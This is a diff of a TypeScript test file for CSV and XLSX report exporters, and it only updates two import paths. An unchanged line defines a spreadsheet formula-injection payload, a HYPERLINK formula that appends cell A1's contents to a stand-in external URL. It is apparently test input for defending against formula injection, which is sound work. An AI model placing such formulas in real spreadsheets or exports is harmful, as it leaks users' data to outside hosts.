@@ -1,7 +1,7 @@
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
-import { reportCsv } from '../../src/io/report_csv.ts';
-import { reportXlsx } from '../../src/io/report_xlsx.ts';
+import { reportCsv } from '../../src/io/export/report_csv.ts';
+import { reportXlsx } from '../../src/io/export/report_xlsx.ts';
 import { miniReport } from '../support/mini_report.ts';
 
 const EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Xem")';
